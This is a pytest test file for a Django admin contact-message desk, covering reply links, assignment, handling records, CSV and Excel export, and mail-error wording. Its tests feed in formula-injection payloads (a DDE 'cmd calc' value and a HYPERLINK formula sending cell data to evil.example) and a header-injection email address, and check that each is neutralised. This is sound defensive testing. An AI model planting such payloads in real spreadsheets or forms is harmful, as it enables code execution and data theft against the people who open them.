"""The message desk in the admin: replying, assigning, who handled what and when, exporting the list,
and problems told to staff in words they can act on."""

import csv
import datetime
import io
import re
import smtplib
from importlib import import_module
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, Permission
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from contact.models import ContactMessage, MessageStatus, NotificationProblem, Purpose
from contact.notifications import problem_of
from core.roles import EDITORS
from tests.support.admin import change_url, logged_in
from tests.support.contact import FAILING_BACKEND
from tests.support.html import elements, texts
from tests.support.tasks import run_queued_tasks

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:contact_contactmessage_changelist")
EXPORT_CSV = reverse("admin:contact_contactmessage_export", args=["csv"])
EXPORT_XLSX = reverse("admin:contact_contactmessage_export", args=["xlsx"])
# 10:00 on 3 December 2026 in Seoul.
RECEIVED = datetime.datetime(2026, 12, 3, 1, 0, tzinfo=datetime.UTC)


def new_message(**fields):
    values = {
        "name": "Ana Lima",
        "email": "ana@example.org",
        "message": "Hello",
        "consent": True,
        "created_at": RECEIVED,
    }
    return ContactMessage.objects.create(**{**values, **fields})


@pytest.fixture
def desk(django_user_model):
    """Two colleagues of the desk, each with their client: Mina (a superuser) and Jun (an Editor)."""
    mina = django_user_model.objects.create_superuser(
        "mina", "mina@example.org", "pw", first_name="Mina", last_name="Park"
    )
    jun = django_user_model.objects.create_user("jun", password="pw", is_staff=True, first_name="Jun", last_name="Kim")
    jun.groups.add(Group.objects.get(name=EDITORS))
    return {"mina": mina, "jun": jun, "mina_client": logged_in(mina), "jun_client": logged_in(jun)}


def reply_links(html):
    return [link["href"] for link in elements(html, "a") if link.get("href", "").startswith("mailto:")]


def status_form(**changes):
    return {"status": "new", "assigned_to": "", "programme": "", "staff_notes": "", **changes}


# -- the sender's address is a reply link ------------------------------------------------------------


def test_the_address_is_a_reply_link_with_the_subject_filled_in(desk):
    message = new_message(email="ana+desk@example.org")
    expected = "mailto:ana%2Bdesk@example.org?subject=Re%3A%20your%20message%20to%20WeGO%20of%20Dec.%203%2C%202026"
    html = desk["mina_client"].get(change_url(message)).content.decode()
    assert reply_links(html) == [expected]
    html = desk["mina_client"].get(CHANGELIST).content.decode()
    assert reply_links(html) == [expected]
    assert "ana+desk@example.org" in texts(html, "a")


@pytest.mark.parametrize(
    ("language", "date"),
    [("ko", "2026년 12월 3일"), ("ru", "3 декабря 2026"), ("", "Dec. 3, 2026"), ("xx", "Dec. 3, 2026")],
)
def test_the_subject_is_dated_in_the_language_the_sender_wrote_in(language, date):
    message = new_message(language=language)
    subject = parse_qs(urlsplit(message.reply_url()).query)["subject"][0]
    assert subject.startswith("Re: ")
    assert date in subject


def test_the_form_says_which_language_the_sender_wrote_in(desk):
    def shown(message):
        html = desk["mina_client"].get(change_url(message)).content.decode()
        return re.search(r'field-sender_language.*?<div class="readonly">([^<]*)</div>', html, re.DOTALL)[1]

    assert shown(new_message(language="ko")) == "Korean"
    assert shown(new_message()) == "—"


def test_nothing_the_sender_typed_becomes_markup_or_another_header(desk):
    # The form checks the address; a stored row is still not trusted.
    message = new_message(email='ana"><b>x</b>@example.org?cc=eve@example.org&bcc=eve@example.org')
    html = desk["mina_client"].get(change_url(message)).content.decode()
    assert "<b>x</b>" not in html
    [href] = reply_links(html)
    address, query = href.removeprefix("mailto:").split("?")
    assert unquote(address) == message.email
    assert list(parse_qs(query)) == ["subject"], "the only header of the link is the subject"
    assert '"' not in href and "<" not in href and "&" not in href


# -- assignment ---------------------------------------------------------------------------------------


def test_messages_are_assigned_only_to_active_staff_who_may_read_them(desk, django_user_model):
    may_read = Permission.objects.get(content_type__app_label="contact", codename="view_contactmessage")
    reader = django_user_model.objects.create_user("reader", is_staff=True)
    reader.user_permissions.add(may_read)
    django_user_model.objects.create_user("no-rights", is_staff=True)
    django_user_model.objects.create_superuser("gone", "gone@example.org", "pw", is_active=False)
    not_staff = django_user_model.objects.create_user("not-staff")
    not_staff.user_permissions.add(may_read)
    html = desk["mina_client"].get(change_url(new_message())).content.decode()
    assert elements(html, "select", name="assigned_to")
    options = [
        text
        for text in texts(html, "option")
        if text in {"Jun Kim", "Mina Park", "reader", "no-rights", "gone", "not-staff"}
    ]
    assert sorted(options) == ["Jun Kim", "Mina Park", "reader"]
    # A choice outside them is refused.
    others = django_user_model.objects.get(username="no-rights")
    response = desk["mina_client"].post(change_url(new_message()), status_form(assigned_to=others.pk))
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()


def test_saving_a_message_keeps_an_assignee_who_has_left_the_desk(desk, django_user_model):
    # The select must still show the colleague: a browser sends the option it shows, and with none
    # shown it would send "nobody", unassigning the message without anyone having chosen to.
    left = django_user_model.objects.create_user("left", is_staff=True, first_name="Lee", last_name="Han")
    message = new_message(assigned_to=left)
    left.is_active = False
    left.save()
    html = desk["mina_client"].get(change_url(message)).content.decode()
    select = re.search(r'<select name="assigned_to".*?</select>', html, re.DOTALL)[0]
    assert [option["value"] for option in elements(select, "option") if "selected" in option] == [str(left.pk)]
    response = desk["mina_client"].post(change_url(message), status_form(status="answered", assigned_to=left.pk))
    assert response.status_code == 302
    message.refresh_from_db()
    assert (message.status, message.assigned_to) == (MessageStatus.ANSWERED, left)
    # Still no new message for them.
    response = desk["mina_client"].post(change_url(new_message()), status_form(assigned_to=left.pk))
    assert "Select a valid choice" in response.content.decode()


def test_assign_to_me_as_a_list_action(desk):
    first, second, third = new_message(), new_message(), new_message()
    response = desk["jun_client"].post(
        CHANGELIST, {"action": "assign_to_me", "_selected_action": [first.pk, second.pk]}, follow=True
    )
    assert "2 messages assigned to you." in response.content.decode()
    assert [m.assigned_to for m in ContactMessage.objects.order_by("pk")] == [desk["jun"], desk["jun"], None]
    html = desk["jun_client"].get(CHANGELIST).content.decode()
    assert texts(html, "td").count("Jun Kim") == 2
    assert third.pk


def test_assign_to_me_on_the_form_saves_the_form_too(desk):
    message = new_message()
    html = desk["jun_client"].get(change_url(message)).content.decode()
    assert elements(html, "input", name="_assign_to_me", type="submit")
    response = desk["jun_client"].post(change_url(message), status_form(staff_notes="Will call.", _assign_to_me="1"))
    assert response.status_code == 302
    assert response["Location"] == change_url(message), "the form stays open"
    message.refresh_from_db()
    assert (message.assigned_to, message.staff_notes) == (desk["jun"], "Will call.")
    html = desk["jun_client"].get(change_url(message)).content.decode()
    assert "The message is assigned to you." in html
    assert not elements(html, "input", name="_assign_to_me"), "no button for what is already done"


def test_the_list_filters_by_assignee(desk):
    new_message(name="Mine", assigned_to=desk["jun"])
    new_message(name="Minas", assigned_to=desk["mina"])
    new_message(name="Nobodys")
    client = desk["jun_client"]

    def names(query):
        html = client.get(CHANGELIST + query).content.decode()
        return sorted(text for text in texts(html, "a") if text in {"Mine", "Minas", "Nobodys"})

    assert names("?assigned=me") == ["Mine"]
    assert names("?assigned=nobody") == ["Nobodys"]
    assert names(f"?assigned={desk['mina'].pk}") == ["Minas"]
    html = client.get(CHANGELIST).content.decode()
    assert f"?assigned={desk['mina'].pk}" in html, "each colleague with messages is offered"
    assert client.get(CHANGELIST + "?assigned=x").status_code == 302  # the admin's "invalid filter" page


@pytest.mark.parametrize("parameter", ["assigned", "handled_by"])
@pytest.mark.parametrize("value", ["²", "1.5", "-1"])
def test_a_colleague_filter_that_is_not_a_user_is_refused_not_a_crash(desk, parameter, value):
    # "²" is a digit to str.isdigit() but no number to int().
    for url in [CHANGELIST, EXPORT_CSV]:
        response = desk["jun_client"].get(url, {parameter: value})
        assert response.status_code == 302, (url, value)
        assert response["Location"] == CHANGELIST + "?e=1"


# -- who handled it, and when ------------------------------------------------------------------------


def test_a_status_change_on_the_form_records_who_and_when(desk):
    message = new_message()
    before = timezone.now()
    desk["jun_client"].post(change_url(message), status_form(status="answered"))
    message.refresh_from_db()
    assert message.handled_by == desk["jun"]
    assert before <= message.handled_at <= timezone.now()
    handled_at = message.handled_at
    # Notes alone change nothing of it.
    desk["mina_client"].post(change_url(message), status_form(status="answered", staff_notes="Done."))
    message.refresh_from_db()
    assert (message.handled_by, message.handled_at, message.staff_notes) == (desk["jun"], handled_at, "Done.")


@pytest.mark.parametrize("status", [MessageStatus.IN_PROGRESS, MessageStatus.ANSWERED, MessageStatus.SPAM])
def test_a_status_action_records_who_and_when(desk, status):
    changed, left = new_message(), new_message()
    response = desk["jun_client"].post(
        CHANGELIST, {"action": f"mark_{status}", "_selected_action": [changed.pk]}, follow=True
    )
    assert "1 message marked" in response.content.decode()
    changed.refresh_from_db()
    left.refresh_from_db()
    assert (changed.status, changed.handled_by) == (status, desk["jun"])
    assert timezone.now() - changed.handled_at < datetime.timedelta(minutes=1)
    assert (left.handled_by, left.handled_at) == (None, None)


def test_marking_again_or_as_new_keeps_who_handled_it(desk):
    handled_at = RECEIVED + datetime.timedelta(hours=4)
    message = new_message(status=MessageStatus.ANSWERED, handled_by=desk["mina"], handled_at=handled_at)
    for action in ["mark_answered", "mark_new"]:
        desk["jun_client"].post(CHANGELIST, {"action": action, "_selected_action": [message.pk]})
        message.refresh_from_db()
        assert (message.handled_by, message.handled_at) == (desk["mina"], handled_at)
    assert message.status == MessageStatus.NEW


def test_the_list_shows_and_filters_by_who_handled_it_and_when_in_seoul_time(desk):
    new_message(
        name="Handled", handled_by=desk["mina"], handled_at=datetime.datetime(2026, 12, 3, 5, 5, tzinfo=datetime.UTC)
    )
    new_message(name="Waiting")
    html = desk["jun_client"].get(CHANGELIST).content.decode()
    headings = texts(html, "th")
    assert "Handled by" in headings and "When" in headings
    assert texts(html, "td").count("Mina Park") == 1
    # 05:05 UTC is 14:05 in Seoul.
    assert "Dec. 3, 2026, 2:05 p.m." in texts(html, "td")
    html = desk["jun_client"].get(f"{CHANGELIST}?handled_by={desk['mina'].pk}").content.decode()
    assert "Handled" in texts(html, "a") and "Waiting" not in texts(html, "a")
    html = desk["mina_client"].get(f"{CHANGELIST}?handled_by=me").content.decode()
    assert "Handled" in texts(html, "a") and "Waiting" not in texts(html, "a")
    html = desk["mina_client"].get(f"{CHANGELIST}?handled_by=nobody").content.decode()
    assert "Waiting" in texts(html, "a") and "Handled" not in texts(html, "a")


# -- "Export this list" ------------------------------------------------------------------------------


@pytest.fixture
def filtered(desk):
    """Three messages; the filters of the tests below keep the two in progress that mention Seoul."""
    kept = new_message(
        name="Mina Park",
        email="mina@example.org",
        status=MessageStatus.IN_PROGRESS,
        message="About Seoul",
        staff_notes="=cmd|' /C calc'!A0",
        assigned_to=desk["jun"],
        handled_by=desk["mina"],
        handled_at=datetime.datetime(2026, 12, 3, 5, 5, tzinfo=datetime.UTC),
    )
    second = new_message(
        name="Lea Roux",
        status=MessageStatus.IN_PROGRESS,
        message="Seoul again",
        staff_notes="Called back.\nAnswer by Friday.",
        created_at=RECEIVED + datetime.timedelta(days=1),
    )
    new_message(name="Omar Haddad", status=MessageStatus.NEW, message="About Seoul")
    new_message(name="Ana Lima", status=MessageStatus.IN_PROGRESS, message="About Lima", purpose=Purpose.GENERAL)
    return [kept, second]


QUERY = "?status__exact=in_progress&q=Seoul&o=1"  # newest first by the "received" column, descending


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="wego-messages-')
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_list_links_to_its_export_with_its_filters(desk, filtered):
    html = desk["jun_client"].get(CHANGELIST + QUERY).content.decode()
    hrefs = [link["href"] for link in elements(html, "a") if link.get("href", "").startswith(EXPORT_CSV[:-4])]
    assert sorted(hrefs) == [
        EXPORT_CSV + "?o=1&q=Seoul&status__exact=in_progress",
        EXPORT_XLSX + "?o=1&q=Seoul&status__exact=in_progress",
    ]
    assert "Export this list (CSV)" in texts(html, "a")


def test_the_export_takes_every_message_of_the_filtered_list_with_the_desk_columns(desk, filtered):
    kept, second = filtered
    rows = read_csv(desk["jun_client"].get(EXPORT_CSV + QUERY))
    heading = rows[0]
    assert heading[:2] == ["id", "received"]
    assert heading[-4:] == ["staff notes", "assigned to", "handled by", "when"]
    assert [row[0] for row in rows[1:]] == [str(kept.pk), str(second.pk)], "the list's filters, search and order"
    first = dict(zip(heading, rows[1], strict=True))
    assert first["name"] == "Mina Park"
    assert first["status"] == "In progress"
    assert first["staff notes"] == "'=cmd|' /C calc'!A0", "a formula arrives as text"
    assert (first["assigned to"], first["handled by"], first["when"]) == (
        "Jun Kim",
        "Mina Park",
        "2026-12-03T14:05+09:00",
    )
    second_row = dict(zip(heading, rows[2], strict=True))
    assert second_row["staff notes"] == "Called back.\nAnswer by Friday."
    assert (second_row["assigned to"], second_row["handled by"], second_row["when"]) == ("", "", "")
    # Without filters: every message.
    assert len(read_csv(desk["jun_client"].get(EXPORT_CSV))) == 1 + 4


def test_the_export_as_an_excel_file(desk, filtered):
    response = desk["jun_client"].get(EXPORT_XLSX + QUERY)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(rows) == 3
    assert rows[0][-4:] == ["staff notes", "assigned to", "handled by", "when"]
    assert rows[1][-4] == "'=cmd|' /C calc'!A0"
    assert sheet.cell(row=2, column=len(rows[0]) - 3).data_type == "s", "text, not a formula"
    assert rows[2][-4] == "Called back.\nAnswer by Friday."


def test_each_export_of_the_list_is_in_the_history_and_the_log(desk, filtered, caplog):
    kept, second = filtered
    caplog.set_level("INFO", logger="contact.admin")
    desk["jun_client"].get(EXPORT_XLSX + QUERY)
    entries = LogEntry.objects.filter(change_message="Exported in an Excel file.")
    assert sorted(int(entry.object_id) for entry in entries) == sorted([kept.pk, second.pk])
    assert {entry.user.username for entry in entries} == {"jun"}
    assert f"jun exported 2 message(s) as XLSX: {kept.pk}, {second.pk}" in caplog.text


def test_the_selection_can_still_be_exported(desk, filtered):
    kept, _second = filtered
    response = desk["jun_client"].post(CHANGELIST, {"action": "export_csv", "_selected_action": [kept.pk]})
    rows = read_csv(response)
    assert [row[0] for row in rows[1:]] == [str(kept.pk)]
    assert rows[1][-4] == "'=cmd|' /C calc'!A0"


def test_only_staff_who_may_read_messages_export_them(filtered, staff_client_factory):
    assert staff_client_factory(is_superuser=False).get(EXPORT_CSV).status_code == 403
    assert Client().get(EXPORT_CSV).status_code == 302  # to the login page
    assert not LogEntry.objects.exists()


def test_an_unknown_format_or_filter_exports_nothing(desk, filtered):
    assert desk["jun_client"].get(reverse("admin:contact_contactmessage_export", args=["pdf"])).status_code == 404
    response = desk["jun_client"].get(EXPORT_CSV + "?nonsense=1")
    assert response.status_code == 302
    assert response["Location"] == CHANGELIST + "?e=1"
    assert not LogEntry.objects.exists()


@pytest.mark.parametrize("control", ["\x01", "\x08\x0b", "\x1f"])
def test_a_formula_behind_a_control_character_is_still_text(desk, control):
    # The Excel format cannot hold control characters, so they are dropped; the formula behind one
    # must not become the start of the cell unguarded.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    new_message(name=control + formula, message=control + "+1+1")
    sheet = load_workbook(io.BytesIO(desk["jun_client"].get(EXPORT_XLSX).content)).active
    heading = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=heading.index("name") + 1)
    assert (name.value, name.data_type) == ("'" + formula, "s")
    assert sheet.cell(row=2, column=heading.index("message") + 1).value == "'+1+1"
    [row] = read_csv(desk["jun_client"].get(EXPORT_CSV))[1:]
    assert row[4] == "'" + formula


def test_a_list_too_long_to_export_asks_for_a_narrower_one(desk, filtered, monkeypatch):
    monkeypatch.setattr("contact.admin.EXPORT_LIMIT", 3)
    # The links are plain links: the file comes as an attachment, and a refusal shows on the list.
    html = desk["jun_client"].get(CHANGELIST).content.decode()
    assert not [link for link in elements(html, "a") if "download" in link]
    response = desk["jun_client"].get(EXPORT_XLSX + "?o=1")
    assert response.status_code == 302
    assert response["Location"] == CHANGELIST + "?o=1", "back to the same list"
    html = desk["jun_client"].get(response["Location"]).content.decode()
    assert (
        "This list has 4 messages, and an export takes at most 3. Narrow the list with the filters, the "
        "search or the dates, and export each part." in texts(html, "li")
    )
    # The same for a selection of every message of the list.
    pks = [message.pk for message in ContactMessage.objects.all()]
    response = desk["jun_client"].post(CHANGELIST, {"action": "export_csv", "_selected_action": pks}, follow=True)
    assert response["Content-Type"].startswith("text/html")
    assert any(text.startswith("This list has 4 messages") for text in texts(response.content.decode(), "li"))
    assert not LogEntry.objects.exists(), "nothing left the back office"
    # A list within the limit is exported.
    assert len(read_csv(desk["jun_client"].get(EXPORT_CSV + QUERY))) == 1 + 2


# -- problems in words staff can act on --------------------------------------------------------------


@pytest.mark.parametrize(
    ("error", "problem"),
    [
        (ConnectionRefusedError("refused"), NotificationProblem.UNREACHABLE),
        (TimeoutError(), NotificationProblem.UNREACHABLE),
        (smtplib.SMTPServerDisconnected("gone"), NotificationProblem.UNREACHABLE),
        (smtplib.SMTPConnectError(421, b"busy"), NotificationProblem.UNREACHABLE),
        (smtplib.SMTPAuthenticationError(535, b"bad password"), NotificationProblem.REFUSED),
        (smtplib.SMTPRecipientsRefused({"a@example.org": (550, b"no")}), NotificationProblem.REFUSED),
        (smtplib.SMTPSenderRefused(553, b"no", "site@example.org"), NotificationProblem.REFUSED),
        (smtplib.SMTPNotSupportedError("no STARTTLS"), NotificationProblem.REFUSED),
        (ValueError("odd"), NotificationProblem.FAILED),
    ],
)
def test_mail_errors_are_sorted_into_problems_staff_understand(error, problem):
    assert problem_of(error) == problem


@override_settings(EMAIL_BACKEND=FAILING_BACKEND)
def test_a_failed_notification_says_what_happened_and_when_it_is_tried_again(desk, time_machine):
    time_machine.move_to(datetime.datetime(2026, 12, 3, 5, 4, tzinfo=datetime.UTC), tick=False)
    message = new_message()
    from contact.tasks import deliver_message

    deliver_message.enqueue(message.pk)
    [result] = run_queued_tasks()
    assert result.status == "FAILED"
    assert "ConnectionRefusedError" in result.traceback, "the technical detail stays with the task"
    message.refresh_from_db()
    assert message.notification_error == NotificationProblem.UNREACHABLE
    assert message.notification_retry_at == timezone.now() + datetime.timedelta(minutes=1)
    html = desk["mina_client"].get(change_url(message)).content.decode()
    assert (
        "The notification could not be sent: the mail server did not answer. "
        "It will be tried again at Dec. 3, 2026, 2:05 p.m. (Seoul time)."
    ) in html
    assert "ConnectionRefused" not in html and "EMAIL" not in html


def test_once_the_attempts_are_spent_no_time_is_promised(desk):
    message = new_message(notification_error=NotificationProblem.REFUSED, notification_attempts=6)
    html = desk["mina_client"].get(change_url(message)).content.decode()
    assert "The notification could not be sent: the mail server refused it." in html
    assert "tried again at" not in html


@override_settings(SECRETARIAT_NOTIFY_EMAILS=[])
def test_a_missing_address_is_told_without_the_settings_name(desk):
    message = new_message()
    response = desk["mina_client"].post(
        CHANGELIST, {"action": "resend_notification", "_selected_action": [message.pk]}, follow=True
    )
    html = response.content.decode()
    sentence = "No address is set for the Secretariat's notifications; ask the site's administrator to set it."
    assert f"1 notification could not be sent. {sentence}" in texts(html, "li")
    assert "SECRETARIAT_NOTIFY_EMAILS" not in html
    html = desk["mina_client"].get(change_url(message)).content.decode()
    assert sentence in html.replace("&#x27;", "'")


def test_old_error_texts_become_problems():
    migration = import_module("contact.migrations.0008_notification_problems_for_staff")
    assert migration.problem_code("") == ""
    assert migration.problem_code("SECRETARIAT_NOTIFY_EMAILS is empty") == "no_address"
    assert migration.problem_code("ConnectionRefusedError: [Errno 111] Connection refused") == "unreachable"
    assert migration.problem_code("SMTPRecipientsRefused: {'a@example.org': (550, b'no')}") == "refused"
    assert migration.problem_code("KeyError: 'x'") == "failed"
